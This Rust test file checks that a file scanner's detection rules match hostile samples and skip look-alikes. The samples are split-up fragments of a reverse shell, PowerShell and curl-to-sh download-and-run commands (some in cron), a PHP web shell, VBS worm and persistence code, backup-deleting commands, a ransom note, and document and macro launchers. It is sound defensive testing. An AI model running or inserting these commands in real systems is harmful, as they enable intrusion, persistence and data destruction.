//! Each built-in rule meets its sample and not the look-alike.

use scanner::{BUILT_IN, built_in_set, describe};

use crate::house::{House, harmful, rules};
use crate::samples::{
    document_with_macro, eicar, letters, link_to, mail_of, program, program_with_section, zip_of, zlib_of,
};

/// Name, sample, and a look-alike (name, bytes) that the rule must not meet.
type Case = (&'static str, (String, Vec<u8>), (String, Vec<u8>));

fn case(rule: &'static str, sample: (&str, Vec<u8>), innocent: (&str, Vec<u8>)) -> Case {
    (rule, (sample.0.to_owned(), sample.1), (innocent.0.to_owned(), innocent.1))
}

fn text(parts: &[&str]) -> Vec<u8> {
    parts.concat().into_bytes()
}

fn names() -> Vec<Case> {
    let mut elf = b"\x7fELF\x02\x01\x01".to_vec();
    elf.resize(256, 0);
    let mut packed_elf = elf.clone();
    packed_elf.extend_from_slice(&text(&[
        "UP",
        "X!",
        "$Info: This file is ",
        "packed with the UPX executable packer",
    ]));
    vec![
        case("eicar_test_file", ("a.com", eicar()), ("a.txt", [b"about ".to_vec(), eicar()].concat())),
        case("name_with_two_endings", ("invoice.pdf.exe", vec![1]), ("invoice.v2.pdf", vec![1])),
        case("name_turned_around", ("invoice\u{202e}fdp.exe", vec![1]), ("\u{200f}\u{5e9}.pdf", vec![1])),
        case("name_with_turning_sign", ("invoice\u{202e}fdp.txt", vec![1]), ("\u{5e9}\u{5dc}.txt", vec![1])),
        case("name_with_many_blanks", ("invoice.pdf                .exe", vec![1]), ("a b  c.exe", vec![1])),
        case(
            "mail_with_program",
            ("a.eml", mail_of("game.exe", &program())),
            ("a.eml", mail_of("a.pdf", b"%PDF-")),
        ),
        case("program_with_document_name", ("invoice.pdf", program()), ("setup.exe", program())),
        case(
            "program_behind_blanks",
            ("invoice.pdf             .exe", program()),
            ("my program.exe", program()),
        ),
        case("elf_with_document_name", ("holiday.jpg", elf.clone()), ("holiday", elf)),
        case(
            "text_with_picture_name",
            ("a.png", text(&["<scr", "ipt>1</script>"])),
            ("a.html", text(&["<html>"])),
        ),
        case(
            "packed_program",
            ("a.exe", program_with_section(b"UPX0")),
            ("a.exe", program_with_section(b".text")),
        ),
        case("packed_program", ("a", packed_elf), ("a.txt", text(&["packed with UPX"]))),
    ]
}

fn worms() -> Vec<Case> {
    let create = "Set o = Create";
    let love = text(&[
        create,
        "Object(\"Outlook.",
        "Application\")\nSet m = o.GetName",
        "Space(\"MA",
        "PI\")\nfor i=1 to m.AddressLi",
        "sts.Count\n",
        "x.Attachme",
        "nts.Add(dirsystem&\"\\LETTER.TXT.vbs\")\nx.Se",
        "nd\nSet c = fso.GetFile(WScript.ScriptFull",
        "name)\n",
    ]);
    let reminder = text(&[
        create,
        "Object(\"Outlook.",
        "Application\")\nx.Subject = \"Report\"\nx.Attachme",
        "nts.Add \"c:\\report.xls\"\nx.Se",
        "nd\n",
    ]);
    let copies = text(&[
        "Set f = fso.GetFile(WScript.ScriptFull",
        "Name)\nf.Co",
        "py(dirsystem & \"\\Win32.vbs\")\n",
        "shell.RegWr",
        "ite \"HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\R",
        "un\\Win32\", d\n",
    ]);
    let batch = text(&[
        "@echo off\r\ncopy %",
        "0 \"%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Star",
        "tup\\a.bat\"\r\n",
    ]);
    let shell = text(&["#!/bin/sh\ncp \"$", "0\" /etc/cr", "on.daily/update\n"]);
    let fetches = text(&[
        "var x = new ActiveX",
        "Object(\"MSXML2.XML",
        "HTTP\"); var s = new ActiveXObject(\"ADODB.Str",
        "eam\");\n",
        "s.SaveTo",
        "File(p, 2); new ActiveXObject(\"WScript.Sh",
        "ell\").Run(p);\n",
    ]);
    vec![
        case("script_mails_itself", ("a.vbs", love), ("report.vbs", reminder)),
        case(
            "script_copies_itself",
            ("a.vbs", copies),
            ("a.vbs", text(&["MsgBox WScript.ScriptFull", "Name\nfso.CopyFile a, b\n"])),
        ),
        case(
            "batch_copies_itself",
            ("a.bat", batch),
            ("a.bat", text(&["copy a.txt b.txt\r\ncd %~dp", "0\r\n"])),
        ),
        case(
            "shell_script_spreads",
            ("a.sh", shell),
            ("a.sh", text(&["#!/bin/sh\ncp a /etc/cron.daily/\necho usage: $0\n"])),
        ),
        case(
            "script_fetches_and_runs",
            ("a.js", fetches),
            ("a.js", text(&["x = new ActiveX", "Object(\"MSXML2.XML", "HTTP\")"])),
        ),
    ]
}

fn scripts() -> Vec<Case> {
    let hta = |window: &str| {
        text(&[
            "<HTA:APPLI",
            "CATION ",
            window,
            "><script>new ActiveXObject(\"WScript.Sh",
            "ell\").Run(\"power",
            "shell -c 1\")</script>",
        ])
    };
    let long = letters(240);
    vec![
        case(
            "page_program_starts_hidden",
            ("a.hta", hta("windowState=\"minimize\"")),
            ("a.hta", hta("border=thin")),
        ),
        case("page_program", ("a.hta", hta("border=thin")), ("a.html", text(&["<html><script>1</script>"]))),
        case(
            "powershell_encoded_and_hidden",
            ("a.bat", text(&["power", "shell.exe -NoProfile -w hid", "den -e", "nc ", &long, "\r\n"])),
            ("a.bat", text(&["power", "shell.exe -NoProfile -e", "nc ", &long, "\r\n"])),
        ),
        case(
            "powershell_encoded",
            ("a.bat", text(&["power", "shell.exe -NoProfile -Encoded", "Command ", &long, "\r\n"])),
            ("a.bat", text(&["power", "shell.exe -NoProfile -File a.ps1\r\n"])),
        ),
        case(
            "powershell_fetches_hidden",
            (
                "a.bat",
                text(&[
                    "power",
                    "shell -w hid",
                    "den -c \"ie",
                    "x (New-Object Net.WebClient).Download",
                    "String('http://x.example/a')\"\r\n",
                ]),
            ),
            (
                "a.md",
                text(&[
                    "power",
                    "shell -c \"ie",
                    "x (New-Object Net.WebClient).Download",
                    "String('http://x.example/a')\"\r\n",
                ]),
            ),
        ),
        case(
            "powershell_loads_program_from_text",
            (
                "a.ps1",
                text(&[
                    "[Reflection.Assem",
                    "bly]::Load([Convert]::FromBase64",
                    "String('TVqQAAMA",
                    "AAAEAAAA'))",
                ]),
            ),
            ("a.ps1", text(&["[Convert]::FromBase64", "String('aGVsbG8=')"])),
        ),
        case(
            "batch_makes_program_from_text",
            ("a.bat", text(&["certutil -f -dec", "ode %0 a.exe\r\nTVqQAAMA", "AAAEAAAA//8AALgAAAA\r\n"])),
            ("a.bat", text(&["certutil -dec", "ode cert.b64 cert.der\r\n"])),
        ),
        case(
            "script_deletes_backups",
            (
                "a.bat",
                text(&[
                    "vssadmin delete sha",
                    "dows /all /quiet\r\nbcdedit /set {default} recoveryenabled n",
                    "o\r\n",
                ]),
            ),
            (
                "notes.md",
                text(&[
                    "vssadmin delete sha",
                    "dows /all /quiet\r\nbcdedit /set {default} recoveryenabled n",
                    "o\r\n",
                ]),
            ),
        ),
        case(
            "web_shell",
            ("a.php", text(&["<?p", "hp @ev", "al($_PO", "ST['x']); ?>"])),
            ("a.php", text(&["<?p", "hp echo $_PO", "ST['x']; ?>"])),
        ),
        case(
            "reverse_shell",
            ("a.sh", text(&["bash -i >& /dev/t", "cp/10.0.0.1/4444 0>&1\n"])),
            ("a.sh", text(&["bash -i\n"])),
        ),
        case(
            "starter_runs_from_the_web",
            ("a.desktop", text(&["[Desktop Entry]\nExec=sh -c \"cu", "rl http://x.example/a | s", "h\"\n"])),
            ("a.desktop", text(&["[Desktop Entry]\nExec=curl-gui %u\n"])),
        ),
        case(
            "cron_fetches_and_runs",
            (
                "a.sh",
                text(&[
                    "(crontab -l; echo \"*/5 * * * * cu",
                    "rl -s http://x.example/a | s",
                    "h\") | cron",
                    "tab -\n",
                ]),
            ),
            ("a.sh", text(&["echo \"0 3 * * * backup\" | cron", "tab -\n"])),
        ),
    ]
}

fn documents() -> Vec<Case> {
    let runs = text(&["Sub Auto", "Open()\r\nx = She", "ll(\"cmd.exe /", "c calc\", 0)\r\nEnd Sub\r\n"]);
    let starts = text(&["Sub Auto", "Open()\r\nMsgBox \"Welcome\"\r\nEnd Sub\r\n"]);
    let mails = text(&[
        "Set o = CreateObject(\"Outlook.Appli",
        "cation\")\r\nFor Each a In o.AddressLi",
        "sts\r\n",
        "m.Attachme",
        "nts.Add ActiveDocument.FullName\r\nm.Se",
        "nd\r\n",
    ]);
    let of = |source: &[u8]| document_with_macro(std::str::from_utf8(source).unwrap());
    let word = |xml: &[u8]| zip_of(&[("[Content_Types].xml", b"<Types/>"), ("word/document.xml", xml)]);
    let rels = |target: &str| {
        zip_of(&[(
            "word/_rels/settings.xml.rels",
            &text(&[
                "<Relationship Type=\"http://x/relationships/attachedTemp",
                "late\" Target=\"",
                target,
                "\" TargetMode=\"External\"/>",
            ]),
        )])
    };
    let rtf = |hex: &str| text(&["{\\rtf1{\\object\\obj", "update{\\*\\objdata ", hex, "}}}"]);
    let launch =
        |file: &str| text(&["%PDF-1.4\n1 0 obj <</S /Lau", "nch /Win << /F (", file, ") >> >> endobj\n"]);
    vec![
        case("macro_starts_by_itself_and_runs_programs", ("a.doc", of(&runs)), ("a.doc", of(&starts))),
        case("macro_starts_by_itself", ("a.doc", of(&starts)), ("a.doc", of(b"Sub Sum()\r\nEnd Sub\r\n"))),
        case("macro_mails_itself", ("a.doc", of(&mails)), ("a.doc", of(&starts))),
        case(
            "document_starts_program_by_field",
            (
                "a.docx",
                word(&text(&[
                    "<w:instrText>DDEAU",
                    "TO c:\\\\windows\\\\system32\\\\cm",
                    "d.exe \"/k calc\"</w:instrText>",
                ])),
            ),
            ("a.docx", word(b"<w:instrText>PAGE</w:instrText>")),
        ),
        case(
            "document_fetches_template",
            ("a.docx", rels("https://x.example/t.dotm")),
            ("a.docx", rels("file:///C:/t.dotm")),
        ),
        case(
            "rtf_with_hidden_program",
            ("a.rtf", rtf(&["50616", "36b616765", "00612e6578", "6500"].concat())),
            ("a.rtf", rtf("0105")),
        ),
        case(
            "rtf_with_equation_object",
            ("a.rtf", rtf(&["4571756174", "696f6e2e33"].concat())),
            ("a.rtf", rtf("0105")),
        ),
        case("pdf_starts_program", ("a.pdf", launch("cmd.exe")), ("a.pdf", launch("other.pdf"))),
        case("pdf_launches", ("a.pdf", launch("other.pdf")), ("a.pdf", text(&["%PDF-1.4\n"]))),
        case(
            "pdf_script_starts_by_itself",
            ("a.pdf", packed_pdf(&text(&["/OpenAct", "ion << /S /JavaS", "cript /JS (app.alert(1)) >>"]))),
            ("a.pdf", packed_pdf(b"/OpenAction 3 0 R")),
        ),
        case(
            "page_smuggles_program",
            (
                "a.html",
                text(&[
                    "<html><script>b=new Bl",
                    "ob([at",
                    "ob(\"TVqQ",
                    "AA",
                    &letters(300),
                    "\")]);a.down",
                    "load='a.exe'</script>",
                ]),
            ),
            (
                "a.html",
                text(&[
                    "<html><script>b=new Bl",
                    "ob([at",
                    "ob(\"aGVsbG8=\")]);a.down",
                    "load='a.txt'</script>",
                ]),
            ),
        ),
        case(
            "page_smuggles_archive",
            (
                "a.html",
                text(&[
                    "<html><script>b=new Bl",
                    "ob([at",
                    "ob(\"UEs",
                    "DB",
                    &letters(500),
                    "\")]);a.cli",
                    "ck()</script>",
                ]),
            ),
            (
                "a.html",
                text(&["<html><script>b=new Bl", "ob([at", "ob(\"aGVsbG8=\")]);a.cli", "ck()</script>"]),
            ),
        ),
    ]
}

fn packed_pdf(objects: &[u8]) -> Vec<u8> {
    let stream = zlib_of(objects);
    let head = format!(
        "%PDF-1.5\n1 0 obj <</Type /ObjStm /Filter /FlateDecode /Length {}>> stream\r\n",
        stream.len()
    );
    [head.as_bytes(), &stream, b"\nendstream endobj\n"].concat()
}

fn others() -> Vec<Case> {
    let hidden = ["/c power", "shell -w hid", "den -e", "nc ", &letters(80)].concat();
    let note = |end: &str| {
        text(&[
            "All of your files have been encry",
            "pted.\nTo restore your files buy our key. The price is low.\nDo not rename them.\n",
            "Install Tor Brow",
            "ser and pay in Bit",
            "coin \n",
            end,
        ])
    };
    let onion = [&"abcdefgh".repeat(7), ".oni", "on\n"].concat();
    vec![
        case(
            "link_starts_hidden_program",
            ("a.lnk", link_to(&hidden, 1)),
            ("a.lnk", link_to("cm\u{64}.exe", 1)),
        ),
        case(
            "link_starts_command",
            ("a.lnk", link_to(&["cmd", ".exe"].concat(), 1)),
            ("a.lnk", link_to("notes.txt", 1)),
        ),
        case(
            "web_link_starts_program",
            ("a.url", text(&["[Internet", "Shortcut]\r\nURL=file://10.0.0.1/a/b.ex", "e\r\n"])),
            ("a.url", text(&["[Internet", "Shortcut]\r\nURL=https://example.org/\r\n"])),
        ),
        case(
            "autorun_starts_program",
            ("autorun.inf", text(&["[auto", "run]\r\nopen=setup.exe\r\n"])),
            ("autorun.inf", text(&["[auto", "run]\r\nicon=setup.ico\r\n"])),
        ),
        case("ransom_note", ("README.txt", note(&onion)), ("story.txt", note("They wanted much."))),
        case(
            "ransom_words",
            ("README.txt", note("")),
            ("story.txt", text(&["all files are encrypted on this disk\n"])),
        ),
        case(
            "miner_settings",
            (
                "config.json",
                text(&[
                    "{\"url\": \"stra",
                    "tum+tcp://pool.example:3333\", \"us",
                    "er\": \"",
                    &letters(40),
                    "\"}",
                ]),
            ),
            ("config.json", text(&["{\"user\": \"alice\"}"])),
        ),
    ]
}

#[test]
fn each_rule_meets_its_sample_and_not_the_look_alike() {
    let mut house = House::new();
    let cases: Vec<Case> = [names(), worms(), scripts(), documents(), others()].concat();
    let mut wrong = Vec::new();
    for (rule, sample, innocent) in &cases {
        let met = house.look(&sample.0, &sample.1);
        if !rules(&met).contains(rule) {
            wrong.push(format!("{rule} does not meet its sample: {met:?}"));
        }
        let met = house.look(&innocent.0, &innocent.1);
        if rules(&met).contains(rule) {
            wrong.push(format!("{rule} meets what is innocent: {met:?}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    let all = BUILT_IN.lines().filter_map(|line| line.strip_prefix("rule ")?.strip_suffix(" {"));
    let untried: Vec<&str> = all.filter(|rule| !cases.iter().any(|(name, ..)| name == rule)).collect();
    assert!(untried.is_empty(), "rules without a sample: {untried:?}");
}

#[test]
fn every_built_in_rule_explains_itself() {
    for rule in BUILT_IN.lines().filter_map(|line| line.strip_prefix("rule ")?.strip_suffix(" {")) {
        assert!(describe(rule).is_some_and(|text| text.len() > 20), "{rule}");
    }
    assert_eq!(describe("no_such_rule"), None);
    assert_eq!(
        BUILT_IN.matches("\nrule ").count(),
        BUILT_IN.matches("licence = \"MIT OR Apache-2.0\"").count()
    );
}

/// Whoever changes the rules changes this line, too: what is cached and told goes by the id.
#[test]
fn the_id_of_the_built_in_set_is_known() {
    insta::assert_snapshot!(built_in_set(), @"66ea31472375c50552d878a02ca2585c34d6968dc129579691524aa2d7404f44");
}

#[test]
fn our_own_files_are_clean() {
    let mut house = House::new();
    let folder = std::path::PathBuf::from(std::env::var_os("CARGO_MANIFEST_DIR").unwrap());
    let mut folders = vec![folder.join("src"), folder.join("tests")];
    while let Some(folder) = folders.pop() {
        for entry in std::fs::read_dir(folder).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                folders.push(path);
                continue;
            }
            let outcome =
                house.look(path.file_name().unwrap().to_str().unwrap(), &std::fs::read(&path).unwrap());
            assert_eq!(harmful(&outcome), Vec::<&str>::new(), "{}", path.display());
        }
    }
    let program = std::fs::read(env!("CARGO_BIN_EXE_scanner-child")).unwrap();
    assert_eq!(harmful(&house.look("althing", &program)), Vec::<&str>::new());
}
